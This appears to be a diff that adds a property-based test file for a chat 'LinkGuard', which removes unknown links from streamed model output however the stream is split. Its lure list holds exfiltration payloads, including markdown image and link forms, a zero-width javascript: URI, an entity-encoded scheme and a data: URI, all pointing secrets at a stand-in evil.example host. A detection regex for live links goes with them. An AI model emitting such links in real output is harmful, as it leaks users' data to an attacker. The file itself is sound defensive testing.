@@ -1,0 +1,80 @@
+"""A relayed text has no link of the model's own, however it was cut."""
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from dossier.chat.rules.links_streamed import MAX_HELD, LinkGuard
+
+KNOWN = ["See https://lab.example/r/7 please"]
+LURES = [
+    "![x](https://evil.example/?q=secret)",
+    "[the report](https://evil.example/secret)",
+    "[the report][secret]\n\n[secret]: https://evil.example/",
+    "https://evil.example/secret",
+    "<https://evil.example/secret>",
+    "<img src=//evil.example/secret>",
+    "www.evil.example/secret",
+    "javascript:alert('secret')",
+    "java\u200bscript:alert('secret')",
+    "https&#58;//evil.example/secret",
+    "slack://evil.example/secret",
+    "https://lab.example/r/7?secret",
+    "data:text/html;base64,secret",
+    "冷藏https://evil.example/secret",
+]
+LIVE = re.compile(
+    r"!\[|\]\(|<img|://|//\w|www\.|javascript:|data:\w|secret\]:", re.IGNORECASE
+)
+
+
+def shown(pieces: list[str]) -> str:
+    guard = LinkGuard(KNOWN)
+    return "".join([*(guard.feed(piece) for piece in pieces), guard.finish()])
+
+
+def cut(text: str, places: list[int]) -> list[str]:
+    ends = sorted({place % (len(text) + 1) for place in places} | {len(text)})
+    return [text[a:b] for a, b in zip([0, *ends], ends, strict=False)]
+
+
+@pytest.mark.parametrize("lure", LURES)
+@given(places=st.lists(st.integers(0, 100), max_size=12))
+def test_link_does_not_pass_however_it_is_cut(lure: str, places: list[int]) -> None:
+    text = shown(cut(f"Keep {lure} cool, please.", places))
+
+    assert not LIVE.search(text)
+    assert text.startswith("Keep ")
+    assert text.endswith("cool, please.")
+
+
+@given(places=st.lists(st.integers(0, 200), max_size=12))
+def test_words_pass_as_they_are(places: list[int]) -> None:
+    words = (
+        "Hello! Is 3 < 5 & 1:2 (w/w)? Yes: **so** it is [1], see `a[0]`.\n"
+        "- R&D said: https://lab.example/r/7 tells. 玫瑰霜：很好！\n"
+    )
+
+    assert shown(cut(words, places)) == words
+
+
+def test_a_word_is_shown_with_the_piece_that_brings_it() -> None:
+    guard = LinkGuard(KNOWN)
+
+    assert [guard.feed(each) for each in ("The", " cream", " is", " 粉", "紅")] == [
+        "The",
+        " cream",
+        " is",
+        " 粉",
+        "紅",
+    ]
+
+
+def test_what_never_closes_is_not_held_for_ever() -> None:
+    guard = LinkGuard([])
+
+    text = guard.feed("[" + "a" * MAX_HELD * 2)
+
+    assert len(text) > MAX_HELD
